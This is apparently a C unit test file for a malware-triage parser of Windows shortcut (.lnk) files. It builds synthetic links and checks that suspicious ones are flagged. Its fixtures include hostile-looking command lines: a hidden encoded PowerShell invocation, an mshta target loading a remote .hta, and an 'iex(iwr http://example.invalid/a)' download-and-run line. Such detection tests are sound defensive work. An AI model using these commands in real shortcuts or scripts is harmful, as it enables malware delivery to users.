/* test_lnk.c - shell links: LinkInfo, Unicode and ANSI string data, env block, truncation. */
#include "config.h"

#include "docs_fixture.h"
#include "office/office_int.h"

static const unsigned char link_clsid[16] = {
	0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00,
	0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
};

/* ShellLinkHeader with the given LinkFlags. */
static void
header(GByteArray *a, uint32_t flags)
{
	unsigned char zero[0x4C - 24];
	memset(zero, 0, sizeof zero);
	dfx_le32(a, 0x4C);
	dfx_bytes(a, link_clsid, 16);
	dfx_le32(a, flags);
	dfx_bytes(a, zero, sizeof zero);
}

/* A UTF-8 string as UTF-16LE with or without the terminator. */
static void
utf16(GByteArray *a, const char *s, bool nul)
{
	glong n = 0;
	gunichar2 *u = g_utf8_to_utf16(s, -1, NULL, &n, NULL);
	for (glong i = 0; i < n; i++)
		dfx_le16(a, u[i]);
	if (nul)
		dfx_le16(a, 0);
	g_free(u);
}

/* StringData entry: count of characters, then the characters. */
static void
string_data(GByteArray *a, const char *s, bool unicode)
{
	if (unicode) {
		glong n = 0;
		gunichar2 *u = g_utf8_to_utf16(s, -1, NULL, &n, NULL);
		dfx_le16(a, (uint16_t)n);
		g_free(u);
		utf16(a, s, false);
	} else {
		dfx_le16(a, (uint16_t)strlen(s));
		dfx_bytes(a, s, strlen(s));
	}
}

/* EnvironmentVariableDataBlock with both target forms. */
static void
env_block(GByteArray *a, const char *ansi, const char *uni)
{
	unsigned char buf[520];
	dfx_le32(a, 0x314);
	dfx_le32(a, 0xA0000001);
	memset(buf, 0, sizeof buf);
	memcpy(buf, ansi, strlen(ansi));
	dfx_bytes(a, buf, 260);
	GByteArray *u = g_byte_array_new();
	if (uni)
		utf16(u, uni, true);
	memset(buf, 0, sizeof buf);
	if (u->len)
		memcpy(buf, u->data, MIN(u->len, sizeof buf));
	dfx_bytes(a, buf, 520);
	g_byte_array_unref(u);
}

/*
 * Unicode link: ID list, LinkInfo with ANSI and Unicode local paths, the
 * string data, an env block, the terminal block.
 */
static GByteArray *
sample_unicode(void)
{
	GByteArray *a = g_byte_array_new();
	header(a, 0x1 | 0x2 | 0x8 | 0x10 | 0x20 | 0x40 | 0x80 | 0x200);
	unsigned char item[18];
	memset(item, 0x1F, sizeof item);
	dfx_le16(a, 20);
	dfx_le16(a, 18);
	dfx_bytes(a, item, 16);
	dfx_le16(a, 0);

	const char *ansi = "C:\\Windows\\System32\\cmd.exe";
	GByteArray *li = g_byte_array_new();
	dfx_le32(li, 0);          /* size, patched below */
	dfx_le32(li, 0x24);
	dfx_le32(li, 1);          /* VolumeIDAndLocalBasePath */
	dfx_le32(li, 0x24);       /* VolumeID */
	dfx_le32(li, 0x24 + 0x11);
	dfx_le32(li, 0);
	uint32_t suffix = 0x24 + 0x11 + (uint32_t)strlen(ansi) + 1;
	dfx_le32(li, suffix);
	uint32_t uoff = suffix + 1;
	dfx_le32(li, uoff);
	dfx_le32(li, 0);          /* patched: Unicode suffix */
	dfx_le32(li, 0x11);       /* VolumeID: size, type, serial, label offset, label */
	dfx_le32(li, 3);
	dfx_le32(li, 0x1234);
	dfx_le32(li, 0x10);
	dfx_bytes(li, "", 1);
	dfx_bytes(li, ansi, strlen(ansi) + 1);
	dfx_bytes(li, "", 1);
	utf16(li, "C:\\Windows\\System32\\cmd.exe", true);
	uint32_t usuffix = li->len;
	utf16(li, "", true);
	li->data[0] = (unsigned char)li->len;
	li->data[1] = (unsigned char)(li->len >> 8);
	li->data[0x20] = (unsigned char)usuffix;
	dfx_bytes(a, li->data, li->len);
	g_byte_array_unref(li);

	string_data(a, "..\\..\\Windows\\System32\\cmd.exe", true);
	string_data(a, "%TEMP%\\作業", true);
	string_data(a, "/c powershell -w hidden -enc SQBFAFgA", true);
	string_data(a, "shell32.dll", true);
	env_block(a, "%windir%\\system32\\cmd.exe", "%windir%\\system32\\cmd.exe");
	dfx_le32(a, 0);
	return a;
}

/* ANSI link: no LinkInfo; the env block holds the target; CP932 work dir. */
static GByteArray *
sample_ansi(void)
{
	GByteArray *a = g_byte_array_new();
	header(a, 0x10 | 0x20 | 0x200);
	string_data(a, "C:\\\x83\x65\x83\x58\x83\x67", false);
	string_data(a, "https://example.invalid/a.hta", false);
	env_block(a, "C:\\Windows\\System32\\mshta.exe", NULL);
	dfx_le32(a, 0);
	return a;
}

/* Target from LinkInfo (Unicode), arguments, working dir, rule description. */
static void
test_lnk_unicode(void **state)
{
	(void)state;
	dfx f;
	dfx_init(&f);
	GByteArray *a = sample_unicode();
	triage_object *o = dfx_object(a->data, a->len, "lnk");
	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
	assert_string_equal(triage_object_fact_str(o, TF_LNK_TARGET),
			    "C:\\Windows\\System32\\cmd.exe");
	assert_string_equal(triage_object_fact_str(o, TF_LNK_ARGS),
			    "/c powershell -w hidden -enc SQBFAFgA");
	assert_string_equal(triage_object_fact_str(o, TF_LNK_WORKDIR), "%TEMP%\\作業");
	assert_int_equal(triage_object_unscanned(o), TRIAGE_UNSCANNED_NONE);
	dfx_rules(o);
	assert_true(dfx_has_finding(o, "shortcut"));
	triage_object_free(&o);
	g_byte_array_unref(a);
	dfx_free(&f);
}

/* The env block target when there is no LinkInfo; ANSI strings. */
static void
test_lnk_ansi_env(void **state)
{
	(void)state;
	dfx f;
	dfx_init(&f);
	GByteArray *a = sample_ansi();
	triage_object *o = dfx_object(a->data, a->len, "lnk");
	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
	assert_string_equal(triage_object_fact_str(o, TF_LNK_TARGET),
			    "C:\\Windows\\System32\\mshta.exe");
	assert_string_equal(triage_object_fact_str(o, TF_LNK_ARGS),
			    "https://example.invalid/a.hta");
	assert_string_equal(triage_object_fact_str(o, TF_LNK_WORKDIR), "C:\\テスト");
	dfx_rules(o);
	assert_true(dfx_has_finding(o, "shortcut"));
	triage_object_free(&o);
	g_byte_array_unref(a);
	dfx_free(&f);
}

/* A harmless shortcut gets no interpreter finding from these rules. */
static void
test_lnk_plain(void **state)
{
	(void)state;
	dfx f;
	dfx_init(&f);
	GByteArray *a = g_byte_array_new();
	header(a, 0x8);
	string_data(a, "..\\Documents\\report.pdf", false);
	dfx_le32(a, 0);
	triage_object *o = dfx_object(a->data, a->len, "lnk");
	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
	assert_string_equal(triage_object_fact_str(o, TF_LNK_TARGET),
			    "..\\Documents\\report.pdf");
	assert_false(triage_object_fact_is_set(o, TF_LNK_ARGS));
	dfx_rules(o);
	assert_false(dfx_has_finding(o, "shortcut"));
	triage_object_free(&o);
	g_byte_array_unref(a);
	dfx_free(&f);
}

/* A file entry shell item with an ANSI 8.3 name and a v9 long-name block. */
static void
file_item(GByteArray *list, uint8_t type, const char *shortname, const char *longname)
{
	GByteArray *it = g_byte_array_new();
	unsigned char zero[46] = {0};
	dfx_le16(it, 0);                     /* size, patched */
	dfx_bytes(it, &type, 1);
	dfx_bytes(it, zero, 11);             /* unknown, size, date, attributes */
	dfx_bytes(it, shortname, strlen(shortname) + 1);
	if (it->len & 1)
		dfx_bytes(it, zero, 1);
	GByteArray *ext = g_byte_array_new();
	dfx_le16(ext, 0);                    /* size, patched */
	dfx_le16(ext, 9);
	dfx_le32(ext, 0xBEEF0004);
	dfx_bytes(ext, zero, 46 - 8);
	utf16(ext, longname, true);
	dfx_le16(ext, 0x14);
	ext->data[0] = (unsigned char)ext->len;
	dfx_bytes(it, ext->data, ext->len);
	it->data[0] = (unsigned char)it->len;
	dfx_bytes(list, it->data, it->len);
	g_byte_array_unref(ext);
	g_byte_array_unref(it);
}

/* No LinkInfo, no env block: the target comes from the shell items. */
static void
test_lnk_idlist(void **state)
{
	(void)state;
	dfx f;
	dfx_init(&f);
	GByteArray *list = g_byte_array_new();
	unsigned char root[20] = {20, 0, 0x1F, 0x50};
	dfx_bytes(list, root, sizeof root);
	unsigned char vol[25] = {25, 0, 0x2F, 'C', ':', '\\'};
	dfx_bytes(list, vol, sizeof vol);
	file_item(list, 0x31, "Windows", "Windows");
	file_item(list, 0x31, "System32", "System32");
	file_item(list, 0x31, "WINDOW~1", "WindowsPowerShell");
	file_item(list, 0x31, "v1.0", "v1.0");
	file_item(list, 0x32, "POWERS~1.EXE", "powershell.exe");
	dfx_le16(list, 0);
	GByteArray *a = g_byte_array_new();
	header(a, 0x1 | 0x20 | 0x80);
	dfx_le16(a, (uint16_t)list->len);
	dfx_bytes(a, list->data, list->len);
	string_data(a, "-nop -w hidden -c iex(iwr http://example.invalid/a)", true);
	dfx_le32(a, 0);
	triage_object *o = dfx_object(a->data, a->len, "lnk");
	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
	assert_string_equal(triage_object_fact_str(o, TF_LNK_TARGET),
			    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
	assert_int_equal(triage_object_unscanned(o), TRIAGE_UNSCANNED_NONE);
	dfx_rules(o);
	assert_true(dfx_has_finding(o, "shortcut"));
	triage_object_free(&o);
	g_byte_array_unref(a);
	g_byte_array_unref(list);
	dfx_free(&f);
}

/* Truncated: corrupt, but what was read stays. */
static void
test_lnk_truncated(void **state)
{
	(void)state;
	dfx f;
	dfx_init(&f);
	GByteArray *a = sample_unicode();
	/* Cut inside the arguments string. */
	const unsigned char *args = memmem(a->data, a->len, "/\0c\0", 4);
	assert_non_null(args);
	size_t cut = (size_t)(args - a->data) + 10;
	triage_object *o = dfx_object(a->data, cut, "lnk");
	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
	assert_int_equal(triage_object_unscanned(o), TRIAGE_UNSCANNED_CORRUPT);
	assert_string_equal(triage_object_fact_str(o, TF_LNK_TARGET),
			    "C:\\Windows\\System32\\cmd.exe");
	assert_string_equal(triage_object_fact_str(o, TF_LNK_ARGS), "/c po");
	triage_object_free(&o);

	o = dfx_object(a->data, 0x30, "lnk");
	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
	assert_int_equal(triage_object_unscanned(o), TRIAGE_UNSCANNED_CORRUPT);
	triage_object_free(&o);
	g_byte_array_unref(a);
	dfx_free(&f);
}

/* Truncations and byte flips never crash; strings stay valid UTF-8. */
static void
test_lnk_mutations(void **state)
{
	(void)state;
	dfx f;
	dfx_init(&f);
	GByteArray *srcs[2] = {sample_unicode(), sample_ansi()};
	uint32_t seed = 0xBADC0DE;
	for (int k = 0; k < 2; k++) {
		for (int v = 0; v < 400; v++) {
			size_t len = srcs[k]->len;
			unsigned char *m = dfx_mutate(srcs[k]->data, &len, &seed, v, 400);
			triage_object *o = dfx_object(m, len, "lnk");
			assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
			assert_true(g_utf8_validate(triage_object_fact_str(o, TF_LNK_TARGET), -1, NULL));
			assert_true(g_utf8_validate(triage_object_fact_str(o, TF_LNK_ARGS), -1, NULL));
			triage_object_free(&o);
			g_free(m);
		}
		g_byte_array_unref(srcs[k]);
	}
	dfx_free(&f);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lnk_unicode),
		cmocka_unit_test(test_lnk_ansi_env),
		cmocka_unit_test(test_lnk_plain),
		cmocka_unit_test(test_lnk_idlist),
		cmocka_unit_test(test_lnk_truncated),
		cmocka_unit_test(test_lnk_mutations),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
